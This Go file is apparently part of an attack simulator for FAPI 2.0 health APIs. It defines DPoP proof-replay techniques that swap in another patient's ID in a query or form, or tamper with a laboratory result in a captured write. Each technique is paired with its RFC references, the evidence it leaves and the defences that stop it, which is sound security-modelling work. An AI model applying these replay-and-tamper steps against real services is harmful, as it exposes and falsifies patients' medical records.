package attacker

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"

	"thiefbox/sim/event"
)

const beyondReplay = "A DPoP proof covers neither query nor body (RFC 9449 s11.7), and FAPI 2.0 does not oblige an API to remember proofs. " +
	"Replay memory stops it, and so would HTTP message signatures."

var _ = register("D-05", Technique{
	Title: "Replay of a proof with another query",
	Story: "A proof covers the address up to the question mark. The thief keeps token and proof of a search for one patient's conditions " +
		"and asks for another patient's.",
	Reads:   []string{"FAPI 2.0 SP 6.2-3", "RFC 9449 s11.7"},
	Needs:   []event.Vantage{event.APIProxy},
	Against: []Trait{ProofBound},
	Beyond:  beyondReplay,
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APIProxy, "?patient=")
		if err != nil {
			return err
		}
		r := again(ctx, l.Message)
		q := r.URL.Query()
		q.Set("patient", stranger(g)) // the one thing changed
		r.URL.RawQuery = q.Encode()
		_, err = send(g, r)
		return err
	},
})

var _ = register("D-05/body", Technique{
	Variant: "body",
	Title:   "Replay of a proof with another body",
	Story: "A supplier looks a patient up by a form, so that nobody reads in an address whom it asked for. A proof does not cover the form either. The thief " +
		"keeps token and proof, and puts another patient into the form.",
	Reads:    []string{"FAPI 2.0 SP 6.2-3", "RFC 9449 s11.7"},
	Evidence: "One jti twice; the address does not tell that the second form asked for somebody else.",
	Needs:    []event.Vantage{event.APIProxy},
	Against:  []Trait{ProofBound},
	Scene:    Scene{LookedUp: true},
	Beyond:   beyondReplay,
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APIProxy, "/_search")
		if err != nil {
			return err
		}
		form, err := url.ParseQuery(string(l.Body))
		if err != nil {
			return err
		}
		asked := form.Get("_id")
		form.Set("_id", otherThan(g, "/"+asked)) // the one thing changed
		l.Body = []byte(form.Encode())
		_, err = send(g, again(ctx, l.Message))
		return err
	},
})

const beyondBody = " Nor does it cover a body: HTTP message signatures with a digest of it (RFC 9421, RFC 9530) do, and so does TLS that ends nowhere but at the API."

var _ = register("D-05/write", Technique{
	Variant: "write",
	Title:   "Replay of a proof with another result in the body",
	Story: "A laboratory's system writes a result into a record and corrects it. The thief has the request from a proxy's capture. He puts another value " +
		"into the body, and sends it again: token, proof, address and method fit, and the record says that the laboratory wrote it.",
	Reads:    []string{"FAPI 2.0 SP 6.2-3", "RFC 9449 s11.7", "RFC 9421"},
	Evidence: "One jti twice, and two versions of one result, the second from another address.",
	Needs:    []event.Vantage{event.APIProxy},
	Against:  []Trait{ProofBound},
	Scene:    Scene{Reported: true},
	Beyond:   beyondReplay,
	Run:      func(ctx context.Context, g Ground) error { return sendAltered(ctx, g, event.APIProxy) },
})

var _ = register("D-05/write-first", Technique{
	Variant: "write-first",
	Title:   "Another result in the body, and the honest request never arrives",
	Story: "The thief sits at a proxy that ends TLS and holds back what the laboratory's system writes. He sends it on with another value in the body. It " +
		"is the first time that the API sees this proof, so it has nothing to remember.",
	Reads:    []string{"RFC 9449 s11.7", "RFC 9421", "RFC 9530"},
	Evidence: "At the API nothing but the address it came from; at the laboratory, a write that got no answer and stands in the record with another value.",
	Needs:    []event.Vantage{event.APIProxyHeld},
	Against:  []Trait{ProofBound},
	Scene:    Scene{Reported: true},
	Beyond:   "A memory of proofs stops the second use of one, and this is the first." + beyondBody,
	Run:      func(ctx context.Context, g Ground) error { return sendAltered(ctx, g, event.APIProxyHeld) },
})

// sendAltered sends a captured write with another value, and his mark in a note.
func sendAltered(ctx context.Context, g Ground, v event.Vantage) error {
	l, err := stolenRequest(g, v, "/Observation")
	if err != nil {
		return err
	}
	var result map[string]any
	if err := json.Unmarshal(l.Body, &result); err != nil {
		return fmt.Errorf("expected a result in the body, got %q: %w", l.Body, err)
	}
	value, _ := result["valueQuantity"].(map[string]any)
	if value == nil {
		return errors.New("expected a result with a value")
	}
	value["value"], result["note"] = 6.9, []map[string]string{{"text": g.Target().Mark}} // what is changed
	if l.Body, err = json.Marshal(result); err != nil {
		return err
	}
	_, err = send(g, again(ctx, l.Message))
	return err
}
